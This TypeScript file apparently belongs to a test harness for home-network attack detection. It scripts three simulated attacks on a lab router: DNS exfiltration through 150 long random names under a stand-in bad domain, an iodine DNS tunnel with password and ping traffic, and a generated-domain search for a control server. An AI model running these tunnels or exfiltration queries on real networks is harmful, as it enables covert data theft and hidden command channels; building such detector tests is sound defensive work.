// Attacks by names: data that leaves in DNS, and a search for a control server by made-up names.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { type Attack, attackWith } from './attack-programs.ts';
import type { Device } from './home.ts';
import type { Household } from './household.ts';
import { BAD_SITE, TUNNEL_DOMAIN, TUNNEL_FAR_END, TUNNEL_PASSWORD } from './services.ts';
import { until } from './watcher.ts';

const TUNNEL_MS_MAX = 8000;

const router = (house: Household): string => house.home.router.ip;

export const dnsTunnel: Attack = {
  kind: 'dns-tunnel',
  title: `dig: a file leaves in 150 long names under ${BAD_SITE}`,
  target: router,
  run: (house, source) => {
    // As dns2tcp and iodine make names: base32 text that looks like chance.
    const random = letters('abcdefghijklmnopqrstuvwxyz234567');
    const names = Array.from({ length: 150 }, () => `${random(40)}.${random(40)}.${BAD_SITE} TXT`);
    return ask(house, source, names);
  },
};

export const iodineTunnel: Attack = {
  kind: 'dns-tunnel',
  title: `iodine: a network tunnel through the home's DNS server, under ${TUNNEL_DOMAIN}`,
  target: router,
  run: async (house, source) => {
    const { home } = house;
    // It is told how long answers may be, since looking for it takes half a minute.
    const words = ['iodine', '-f', '-r', '-m', '700', '-P', TUNNEL_PASSWORD, '-d', 'dns0'];
    const child = home.serve(source, [...words, home.router.ip, TUNNEL_DOMAIN]);
    const isOpen = await until(TUNNEL_MS_MAX, () => home.logOf(source, 'iodine').includes('setup complete'));
    const pings = await home.run(source, ['busybox', 'ping', '-c', '120', '-i', '0.03', '-s', '300', TUNNEL_FAR_END]);
    child.kill('SIGTERM');
    if (!isOpen || pings.status !== 0) throw new Error(`${home.logOf(source, 'iodine')}${pings.stdout}`);
  },
};

export const generatedNames: Attack = {
  kind: 'generated-names',
  title: 'dig: 120 made-up names, none of which exists, in search of a control server',
  target: router,
  run: (house, source) => {
    const random = letters('abcdefghijklmnopqrstuvwxyz');
    return ask(
      house,
      source,
      Array.from({ length: 120 }, (_, i) => `${random(12 + (i % 7))}.${['com', 'net', 'info', 'biz'][i % 4]} A`),
    );
  },
};

function ask(house: Household, source: Device, questions: readonly string[]): Promise<void> {
  const file = join(house.home.folder, `questions-${source.name}`);
  writeFileSync(file, `${questions.join('\n')}\n`);
  return attackWith(house, source, ['dig', '+tries=1', '+time=1', '-f', file]);
}

/** Texts of letters that look like chance and are the same at every run. */
function letters(alphabet: string): (count: number) => string {
  let state = 77;
  const next = (): string => {
    state = (state * 1_103_515_245 + 12_345) % 2_147_483_648;
    return alphabet[Math.floor(state / 4096) % alphabet.length]!;
  };
  return (count) => Array.from({ length: count }, next).join('');
}
